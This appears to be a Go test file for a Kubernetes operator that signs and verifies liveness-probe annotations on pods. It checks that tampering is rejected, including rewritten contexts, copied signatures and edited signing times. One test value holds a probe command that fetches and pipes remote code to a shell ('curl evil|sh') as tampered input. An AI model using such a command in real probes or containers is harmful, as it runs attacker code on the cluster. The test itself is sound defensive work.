/*
Copyright 2026 The enhanced-liveness-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package probesig

import (
	"errors"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	appsv1alpha1 "github.com/enhanced-liveness/enhanced-liveness-operator/api/apps/v1alpha1"
)

func TestVerify(t *testing.T) {
	const (
		ns    = "shop"
		value = `[{"name":"web","livenessProbe":{"exec":{"command":["/bin/check"]}}}]`
		evil  = `[{"name":"web","livenessProbe":{"exec":{"command":["/bin/sh","-c","curl evil|sh"]}}}]`
	)
	ctxKey := appsv1alpha1.AnnotationProbeContext
	sigKey := appsv1alpha1.AnnotationProbeContextSignature
	since := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	key := Key{Bytes: []byte(strings.Repeat("k", MinKeyBytes)), Since: since}
	otherKey := []byte(strings.Repeat("o", MinKeyBytes))
	signedAt := since.Add(time.Hour)

	pod := func(ns string, created time.Time, ann map[string]string) *corev1.Pod {
		return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-0",
			CreationTimestamp: metav1.NewTime(created), Annotations: ann}}
	}
	good := Sign(key.Bytes, ns, ctxKey, value, signedAt)

	cases := []struct {
		name    string
		pod     *corev1.Pod
		wantErr string // "" = verifies
	}{
		{name: "signed by the webhook", pod: pod(ns, signedAt.Add(2*time.Second), map[string]string{ctxKey: value, sigKey: good})},
		{name: "apiserver clock a little behind the manager's", pod: pod(ns, signedAt.Add(-time.Minute), map[string]string{ctxKey: value, sigKey: good})},
		{name: "no probe context: nothing to trust", pod: pod(ns, signedAt, map[string]string{"x": "y"})},
		{name: "OpenKruise's key, signed", pod: pod(ns, signedAt, map[string]string{
			appsv1alpha1.AnnotationKruiseProbeContext: value,
			sigKey: Sign(key.Bytes, ns, appsv1alpha1.AnnotationKruiseProbeContext, value, signedAt)})},
		{name: "unsigned, enrolled by the previous version", pod: pod(ns, since.Add(-24*time.Hour), map[string]string{ctxKey: value})},
		{name: "unsigned, enrolled by a previous replica during the upgrade", pod: pod(ns, since.Add(LegacyGrace-time.Second), map[string]string{ctxKey: value})},

		{name: "unsigned, created after signing began", pod: pod(ns, since.Add(LegacyGrace+time.Second), map[string]string{ctxKey: value}),
			wantErr: "it has no " + sigKey + " annotation, and the pod was created at 2026-03-01T12:10:01Z, after the operator began signing probe contexts (2026-03-01T12:00:00Z)"},
		{name: "context rewritten after signing", pod: pod(ns, signedAt, map[string]string{ctxKey: evil, sigKey: good}),
			wantErr: "its signature does not match the annotation " + ctxKey + " of a pod in namespace shop"},
		{name: "signature copied to another namespace", pod: pod("kube-system", signedAt, map[string]string{ctxKey: value, sigKey: good}),
			wantErr: "does not match the annotation " + ctxKey + " of a pod in namespace kube-system"},
		{name: "signature moved to OpenKruise's key", pod: pod(ns, signedAt, map[string]string{appsv1alpha1.AnnotationKruiseProbeContext: value, sigKey: good}),
			wantErr: "does not match"},
		{name: "signed with another key", pod: pod(ns, signedAt, map[string]string{ctxKey: value, sigKey: Sign(otherKey, ns, ctxKey, value, signedAt)}),
			wantErr: "does not match"},
		{name: "signing time edited", pod: pod(ns, signedAt.Add(time.Hour), map[string]string{ctxKey: value,
			sigKey: strings.Replace(good, ".", "."+"1", 1)}), wantErr: "does not match"},
		{name: "signature copied onto a pod created later", pod: pod(ns, signedAt.Add(MaxSkew+time.Second), map[string]string{ctxKey: value, sigKey: good}),
			wantErr: "it was signed at 2026-03-01T13:00:00Z, but the pod was created at 2026-03-01T13:05:01Z (a signature copied from another pod)"},
		{name: "signature older than the legacy cut-off does not make a pod legacy", pod: pod(ns, since.Add(-time.Hour), map[string]string{ctxKey: evil, sigKey: good}),
			wantErr: "does not match"},
		{name: "unknown version", pod: pod(ns, signedAt, map[string]string{ctxKey: value, sigKey: "v2" + strings.TrimPrefix(good, "v1")}),
			wantErr: "is not a v1 signature"},
		{name: "garbage", pod: pod(ns, signedAt, map[string]string{ctxKey: value, sigKey: "x"}), wantErr: "is not a v1 signature"},
		{name: "bad time", pod: pod(ns, signedAt, map[string]string{ctxKey: value, sigKey: "v1.soon.AAAA"}), wantErr: "no valid signing time"},
		{name: "bad encoding", pod: pod(ns, signedAt, map[string]string{ctxKey: value, sigKey: "v1.1.%%%"}), wantErr: "does not match"},
		{name: "empty signature", pod: pod(ns, signedAt, map[string]string{ctxKey: value, sigKey: ""}), wantErr: "is not a v1 signature"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := Verify(key, tc.pod)
			switch {
			case tc.wantErr == "" && err != nil:
				t.Fatalf("unexpected error: %v", err)
			case tc.wantErr != "" && err == nil:
				t.Fatalf("verified, want an error containing %q", tc.wantErr)
			case tc.wantErr != "" && !strings.Contains(err.Error(), tc.wantErr):
				t.Fatalf("error %q, want it to contain %q", err, tc.wantErr)
			case err != nil && !errors.Is(err, ErrNotSigned):
				t.Fatalf("error %v does not wrap ErrNotSigned", err)
			}
		})
	}
}

func TestSignIsDeterministicAndBound(t *testing.T) {
	k := []byte(strings.Repeat("k", MinKeyBytes))
	at := time.Unix(1_700_000_000, 0)
	a := Sign(k, "ns", "key", "v", at)
	if a != Sign(k, "ns", "key", "v", at) {
		t.Fatal("signature not deterministic")
	}
	if !strings.HasPrefix(a, "v1.1700000000.") {
		t.Fatalf("signature %q lacks version and time", a)
	}
	// The separator keeps ("ab","c") and ("a","bc") apart.
	if Sign(k, "ab", "c", "v", at) == Sign(k, "a", "bc", "v", at) {
		t.Fatal("namespace and key are not separated")
	}
}
